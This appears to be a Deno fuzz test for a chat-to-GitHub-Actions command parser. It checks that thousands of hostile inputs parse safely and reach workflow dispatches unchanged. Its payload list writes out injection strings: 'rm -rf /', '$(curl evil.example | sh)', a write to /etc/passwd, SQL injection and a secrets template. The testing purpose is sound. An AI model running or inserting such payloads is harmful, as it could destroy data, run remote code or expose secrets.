/**
 * The command language under hostile text: thousands of generated commands (random and unicode
 * text, very long input, `${{ }}`, backticks and shell metacharacters in `inputs:`) always give
 * a schema-valid intent or a helpful unsupported answer; an input value that reaches a dispatch
 * arrives at GitHub byte for byte, as data.
 */
import assert from "node:assert/strict";
import { boot } from "../../src/boot.ts";
import { parseCommand } from "../../src/intent/parse.ts";
import { ParseResultSchema } from "../../src/intent/schema.ts";
import { GITHUB_TOKEN, simWithApp } from "../e2e/fixtures.ts";
import { randomText, Rng } from "./generate.ts";
import { countingLogger } from "./harness.ts";

// Payloads a shell, a template engine or a YAML writer would misread.
const PAYLOADS = [
  "a;rm -rf /`$(x)",
  "${{ secrets.GITHUB_TOKEN }}",
  "${{ github.event.issue.title }}",
  "`id`",
  "$(curl evil.example | sh)",
  "a && b || c",
  "x | tee /etc/passwd",
  "'; DROP TABLE jobs; --",
  '"quoted"',
  "back\\slash",
  "new\nline",
  "tab\there",
  "nul\u0000byte",
  "ünïcödé 漢字 🚀",
  "\u202eevil",
  "{{7*7}}",
  "%0a%0d",
  "key: value",
  "- item",
  "*alias",
  "&anchor",
];

// Chat normalisation (normalizeText) deliberately drops invisible characters, maps odd spaces
// and dashes, decodes Slack's entities; lone surrogates become U+FFFD. Values free of those
// must arrive unchanged.
function normalizedByChat(value: string): boolean {
  return !value.isWellFormed() ||
    /[\u200b-\u200d\u2060\ufeff\u00a0\u2000-\u200a\u202f\u205f\u3000\u2013\u2014\t\r\n<>|]|&(lt|gt|amp);/
      .test(value);
}

function commandFor(rng: Rng, payload: string): string {
  return rng.pick([
    () => `test repo:acme/app workflow:ci.yml inputs:${JSON.stringify({ v: payload })}`,
    () => `/ci-test test acme/app ci.yml inputs:${JSON.stringify({ v: payload, w: "1" })}`,
    () => `test repo:acme/app workflow:ci.yml inputs:v=${payload}`,
    () => `test repo:acme/app inputs:"v=${payload}"`,
    () => `${payload} ${randomText(rng, 30)}`,
    () => randomText(rng, 120),
    () => `compare baseline:${payload} candidate:ci.yml repo:acme/app`,
  ])();
}

Deno.test("fuzz: 6,000 hostile commands parse to a valid intent or a helpful answer, never a throw", () => {
  const rng = new Rng(7);
  const texts: string[] = [
    "x".repeat(100_000),
    `test repo:acme/app inputs:${"{".repeat(50_000)}`,
    `test ${"inputs:a=b ".repeat(5_000)}`,
    "\u0000".repeat(10_000),
    "🚀".repeat(20_000),
  ];
  for (let i = 0; i < 6_000; i++) {
    const payload = rng.next() < 0.6 ? rng.pick(PAYLOADS) : randomText(rng, 40);
    texts.push(commandFor(rng, payload));
  }
  let intents = 0;
  let exact = 0;
  const started = performance.now();
  for (const text of texts) {
    const result = ParseResultSchema.parse(parseCommand(text));
    if (result.kind === "unsupported") {
      assert.ok(result.error.length > 0 && result.hint.length > 0, text.slice(0, 80));
      assert.ok(result.examples.length > 0, `no examples for ${text.slice(0, 80)}`);
      continue;
    }
    intents++;
    // The JSON form of inputs carries any string: when it parses, the value is kept as given.
    const json = /inputs:(\{"v":.*\})$/.exec(text) ?? /inputs:(\{"v":.*,"w":"1"\})$/.exec(text);
    const given = json ? JSON.parse(json[1]).v as string : "";
    if (json && result.intent.inputs && !normalizedByChat(given)) {
      assert.equal(result.intent.inputs.v, given, `input changed: ${JSON.stringify(given)}`);
      exact++;
    }
  }
  const ms = performance.now() - started;
  console.log(
    `fuzz commands: ${texts.length} parsed in ${ms.toFixed(0)} ms; ` +
      `${intents} intents (${exact} with inputs checked byte for byte), ` +
      `${texts.length - intents} helpful unsupported; 0 thrown`,
  );
  assert.ok(intents > 1_000 && texts.length - intents > 1_000, `intents ${intents}`);
  assert.ok(exact > 500, `inputs checked: ${exact}`);
  assert.ok(ms < 20_000, `${ms} ms`);
});

Deno.test({
  name: "fuzz: shell and template metacharacters in an input reach the dispatch body unchanged",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    await using github = await simWithApp();
    const service = await boot({
      KV_PATH: ":memory:",
      GITHUB_TOKEN,
      GITHUB_API_URL: github.url,
    }, { log: countingLogger(), maxJobWaitMs: 100, github: { retryAfterBaseValue: 5 } });
    try {
      const values = ["a;rm -rf /`$(x)", "${{ secrets.GITHUB_TOKEN }}", "$(id) && `id` | sh"];
      for (const value of values) {
        const text = `test repo:acme/app workflow:ci.yml inputs:${
          JSON.stringify({ "python-version": value })
        }`;
        const parsed = parseCommand(text);
        assert.equal(parsed.kind, "intent", text);
        if (parsed.kind !== "intent") continue;
        const report = await service.deps.execute(parsed.intent, {
          surface: "cli",
          requestId: `fuzz-${values.indexOf(value)}`,
        });
        const jobId = report.actions.find((a) => a.intent.op === "cancel")?.intent.target;
        assert.ok(jobId, `a job was started: ${report.summary}`);
        await service.deps.runner.wait(jobId);
      }
      const bodies = github.requests.filter((r) =>
        r.method === "POST" && /\/dispatches$/.test(r.path)
      ).map((r) => (r.body as { inputs: Record<string, string> }).inputs["python-version"]);
      assert.deepEqual(bodies, values, "each dispatch carried the value byte for byte");
      assert.deepEqual(github.state.dispatches.map((d) => d.inputs["python-version"]), values);
    } finally {
      await service.close();
    }
  },
});
